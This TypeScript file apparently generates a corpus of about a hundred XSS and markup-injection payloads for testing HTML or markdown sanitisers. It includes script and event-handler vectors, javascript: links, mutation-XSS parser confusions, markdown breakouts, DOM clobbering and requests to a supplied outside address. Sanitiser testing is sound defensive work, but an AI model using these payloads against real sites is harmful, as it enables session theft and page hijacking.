// A hundred ways to have a page run a script, or ask a stranger, that a worker could write. Each that runs counts itself
// up in `window.ran`; each that asks, asks the address it is given.

const run = "window.ran=(window.ran||0)+1";

export function payloads(stranger: string): string[] {
  const asks = `${stranger}/asked`;
  return [
    ...scripts(),
    ...handlers(),
    ...links(),
    ...frames(),
    ...asking(asks),
    ...markdown(asks),
    ...mutations(),
    ...breakouts(),
    ...laterInventions(asks),
  ];
}

function scripts(): string[] {
  return [
    `<script>${run}</script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<script >${run}</script >`,
    `<script/x>${run}</script>`,
    `<script type="module">${run}</script>`,
    `<script src="data:text/javascript,${run}"></script>`,
    `"><script>${run}</script>`,
    `'><script>${run}</script>`,
    `--><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `</style><script>${run}</script>`,
    `</noscript><script>${run}</script>`,
    `<svg><script>${run}</script></svg>`,
    `<math><script>${run}</script></math>`,
    `<template><script>${run}</script></template>`,
    `<noscript><p title="</noscript><script>${run}</script>">`,
    `<script>\n<!--\n${run}\n//--></script>`,
  ];
}

const events: readonly (readonly [string, string])[] = [
  ["img src=x", "onerror"],
  ["img src=x ", "ONERROR"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video><source", "onerror"],
  ["p", "onmouseover"],
  ["p", "onclick"],
  ["p tabindex=1", "onfocus"],
  ["div", "onpointerover"],
  ["a href=#", "onclick"],
  ["button", "onclick"],
  ["form", "onsubmit"],
  ["marquee", "onstart"],
  ["object data=x", "onerror"],
  ["iframe src=about:blank", "onload"],
  ["embed src=x", "onerror"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x dur=1s", "onbegin"],
  ["math><mi", "onmouseover"],
  ["table", "onmouseover"],
  ["custom-element", "onclick"],
  ["style", "onload"],
  ["link rel=stylesheet href=data:text/css,", "onload"],
];

function handlers(): string[] {
  return events.map(([tag, name]) => `<${tag} ${name}="${run}">x`);
}

function links(): string[] {
  const targets = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java&#10;script:${run}`,
    `java&Tab;script:${run}`,
    `&#106;avascript:${run}`,
    ` javascript:${run}`,
    `\u0001javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `vbscript:${run}`,
  ];
  return [
    ...targets.map((target) => `<a href="${target}">go</a>`),
    `<svg><a xlink:href="javascript:${run}"><text y="9">go</text></a></svg>`,
    `<math><mtext href="javascript:${run}">go</mtext></math>`,
    `<form action="javascript:${run}"><button>go</button></form>`,
    `<button form=f formaction="javascript:${run}">go</button>`,
    `<area href="javascript:${run}">`,
  ];
}

function frames(): string[] {
  return [
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run.replaceAll("window", "parent")}</script>"></iframe>`,
    `<iframe src="data:text/html,<script>parent.${run}</script>"></iframe>`,
    `<object data="javascript:${run}"></object>`,
    `<embed src="javascript:${run}">`,
    `<frameset><frame src="javascript:${run}"></frameset>`,
    `<base href="javascript:${run}//">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  ];
}

function asking(asks: string): string[] {
  return [
    `<img src="${asks}?img">`,
    `<img srcset="${asks}?srcset 1x">`,
    `<picture><source srcset="${asks}?source"><img></picture>`,
    `<video poster="${asks}?poster"></video>`,
    `<audio src="${asks}?audio" autoplay></audio>`,
    `<link rel="stylesheet" href="${asks}?css">`,
    `<link rel="prefetch" href="${asks}?prefetch">`,
    `<link rel="preconnect" href="${asks}">`,
    `<style>@import "${asks}?import";</style>`,
    `<style>body{background:url(${asks}?background)}</style>`,
    `<p style="background-image:url(${asks}?style)">x</p>`,
    `<table background="${asks}?table"><tr><td>x</table>`,
    `<svg><image href="${asks}?image"/></svg>`,
    `<svg><use href="${asks}?use#a"/></svg>`,
    `<script src="${asks}?script"></script>`,
    `<iframe src="${asks}?iframe"></iframe>`,
    `<object data="${asks}?object"></object>`,
    `<meta http-equiv="refresh" content="0;url=${asks}?refresh">`,
  ];
}

function markdown(asks: string): string[] {
  return [
    `![a picture](${asks}?markdown)`,
    `[go](javascript:${run.replaceAll("(", "%28").replaceAll(")", "%29")})`,
    `[go]: <javascript:${run}>\n\n[go]`,
    `![x](x "onerror=${run}")`,
    `<javascript:${run}>`,
    `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    "```html\n<script>" + run + "</script>\n```",
  ];
}

/** What changes its meaning when a sanitiser parses it a second time. */
function mutations(): string[] {
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    `<noscript><style></noscript><img src=x onerror="${run}"></style>`,
    `<select><template><img src=x onerror="${run}"></template></select>`,
    `<a id=x><a id=x name=y href="javascript:${run}">go</a>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
    `<title><p title="</title><img src=x onerror=${run}>">`,
  ];
}

/** What leaves the attribute that markdown makes of it. */
function breakouts(): string[] {
  const handler = `onmouseover=${run}`;
  return [
    `https://a.example/"${handler}`,
    `<https://a.example/"${handler}>`,
    `[a](https://a.example '"${handler} "')`,
    `[a]: https://a.example '"${handler} "'\n\n[a]`,
    `!["><img src=x onerror=${run}>](https://a.example/x)`,
    `![a](https://a.example/"${handler})`,
    `[//]: # (<img src=x onerror=${run}>)`,
    '```"><img/src=x/onerror=' + run + ">\nx\n```",
    `| a |\n|:-"${handler}-:|\n| <img src=x onerror=${run}> |`,
    `<!-- --!><img src=x onerror=${run}> -->`,
    `<p title="a&quot;&gt;<img src=x onerror=${run}>">x</p>`,
  ];
}

/** What browsers have learnt since most lists of payloads were written, and what nests too deep for a parser. */
function laterInventions(asks: string): string[] {
  const deep = "<div>".repeat(515);
  return [
    `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
    `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${run}">x</div>`,
    `<button popovertarget=p>x</button><div popover id=p onbeforetoggle="${run}">x</div>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${asks}?rules"]}]}</script>`,
    `<script type="importmap">{"imports":{"a":"data:text/javascript,${run}"}}</script><script type="module">import "a"</script>`,
    `<a href="#" ping="${asks}?ping">go</a>`,
    `<img attributionsrc="${asks}?source">`,
    `<input type=image src="${asks}?input">`,
    `<svg><filter id=f><feImage href="${asks}?filter"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=9>go</text></a></svg>`,
    `<svg><foreignObject><body onload="${run}"></foreignObject></svg>`,
    `<svg><![CDATA[><image href="]]><img src=x onerror=${run}>`,
    `${deep}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `${deep}<svg><title><noscript><p title="</title><img src=x onerror=${run}>">`,
    `<a href="java\u200bscript:${run}">go</a><a href="\ufeffjavascript:${run}">go</a>`,
    `<a href="javascript://a.example/%0A${run}">go</a>`,
    `<form id=hall><input name=attributes><input name=childNodes><input name=nodeType onfocus=${run} autofocus></form>`,
  ];
}
